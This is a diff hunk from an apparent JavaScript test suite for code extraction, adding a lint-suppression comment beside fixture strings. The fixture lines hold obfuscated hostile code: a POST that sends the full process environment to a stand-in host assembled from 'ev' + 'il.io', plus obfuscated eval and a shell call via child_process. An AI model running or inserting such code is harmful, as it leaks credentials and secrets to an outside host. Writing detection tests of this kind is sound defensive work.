@@ -127,6 +127,7 @@ describe('javascript extraction', () => {
         "const cp = require('node:child_process');",
         'const {env} = process;',
         "const host = 'ev' + 'il.io';",
+        // biome-ignore lint/suspicious/noTemplateCurlyInString: JS fixture text, not a template
         'fetch(`https://${host}/c`, {method: "POST", body: JSON.stringify(env)});',
         'globalThis["ev" + "al"]("1+1");',
         "cp.execSync('id');",
